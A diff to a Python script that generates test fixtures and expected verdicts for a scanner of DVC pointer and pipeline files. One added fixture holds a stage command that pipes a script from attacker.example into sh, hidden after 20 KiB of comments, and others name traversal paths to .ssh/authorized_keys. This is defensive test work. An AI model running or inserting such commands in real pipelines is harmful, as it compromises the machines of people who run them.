@@ -10,7 +10,13 @@ written with PyYAML's safe dumper in the key order DVC uses.
 - traversal.dvc: `../../.ssh/authorized_keys` (malicious).
 - wdir-escape.dvc: a harmless path under `wdir: ../..` (malicious: the join climbs out).
 - import.dvc: what `dvc import` writes (deps naming another repository): suspicious.
-- not-dvc.dvc: `.dvc`-named text without outs: plain text (clean).
+- notes.dvc: `.dvc`-named text that is not a mapping: DVC reads every `*.dvc` file and refuses it
+  (invalid: a DVC-named file is DVC's, whatever its first bytes show).
+- meta-only.dvc: a mapping with only `meta` (no outs, no cmd): a DVC file with nothing to fetch or
+  run (clean).
+- legacy-stage.dvc: the single-stage form `dvc run -f train.dvc` wrote (cmd, deps, outs): dvc repro
+  runs its cmd, dvc pull fetches its output (suspicious, dvc/stage-command).
+- late-pointer.dvc: the pointer of model.pkl.dvc after 20 KiB of comments: read whole, reported the same.
 - no-path.dvc: an outs entry whose path is null: DVC refuses it (invalid).
 
 Pipeline files (`dvc stage add` / `dvc repro` write them; the shapes follow DVC's dvc.yaml and
@@ -26,6 +32,8 @@ dvc.lock documentation), each in a folder of its own since DVC reads them by nam
 - traversal/dvc.yaml: a stage output `../../.ssh/authorized_keys` (malicious).
 - metrics-only/dvc.yaml: top-level metrics and plots, no stages: nothing fetched or run (clean).
 - bad-stages/dvc.yaml: `stages` is a list: DVC refuses it (invalid).
+- late-stages/dvc.yaml: risky-cmd's stage after 20 KiB of comments: dvc repro runs it wherever it
+  is, so it is reported the same (suspicious, medium command).
 
 Run from the repository root with /usr/bin/python3.
 """
@@ -75,7 +83,17 @@ put("import.dvc", {"md5": "e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6", "frozen": True,
                                       "rev_lock": "0123456789abcdef0123456789abcdef01234567"}}],
                    "outs": [{"md5": MD5, "size": 2211, "hash": "md5", "path": "model.pkl"}]},
     "suspicious", rules=["dvc/external-artifact"], evidence={"repo": "https://github.com/example/models"})
-put("not-dvc.dvc", "notes about the dvc remote\n", "clean", absent=["dvc/external-artifact"])
+put("notes.dvc", "notes about the dvc remote\n", "invalid", rules=["dvc/malformed"], absent=["dvc/external-artifact"])
+put("meta-only.dvc", {"meta": {"owner": "data-team", "note": "tracked in another repository"}}, "clean",
+    absent=["dvc/external-artifact", "dvc/malformed"])
+put("legacy-stage.dvc", {"md5": "e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6", "cmd": "python train.py",
+                         "deps": [{"md5": MD5, "path": "train.py"}],
+                         "outs": [{"md5": MD5, "path": "model.pkl", "cache": True}]},
+    "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"], absent=["dvc/malformed"])
+COMMENTS = "# notes kept with the pointer\n" * 700
+put("late-pointer.dvc", COMMENTS + yaml.safe_dump(
+    {"outs": [{"md5": MD5, "size": 2211, "hash": "md5", "path": "model.pkl"}]}, sort_keys=False),
+    "suspicious", rules=["dvc/external-artifact"], evidence={"path": "model.pkl", "hash": MD5})
 put("no-path.dvc", {"outs": [{"md5": MD5, "size": 1, "path": None}]}, "invalid", rules=["dvc/malformed"])
 
 # Pipeline files
@@ -114,6 +132,9 @@ put("traversal/dvc.yaml", {"stages": {"train": {"cmd": "python train.py",
 put("metrics-only/dvc.yaml", {"metrics": ["metrics.json"], "plots": ["plots.csv"]}, "clean",
     absent=["dvc/external-artifact", "dvc/malformed"])
 put("bad-stages/dvc.yaml", {"stages": [{"cmd": "python train.py"}]}, "invalid", rules=["dvc/malformed"])
+put("late-stages/dvc.yaml", COMMENTS + yaml.safe_dump({"stages": {"setup": {
+    "cmd": "curl -fsSL https://attacker.example/setup.sh | sh", "outs": ["model.pkl"]}}}, sort_keys=False),
+    "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"], evidence={"stage": "setup"})
 
 with open(os.path.join(OUT, "expected.json"), "w") as f:
     json.dump(expected, f, indent=1)
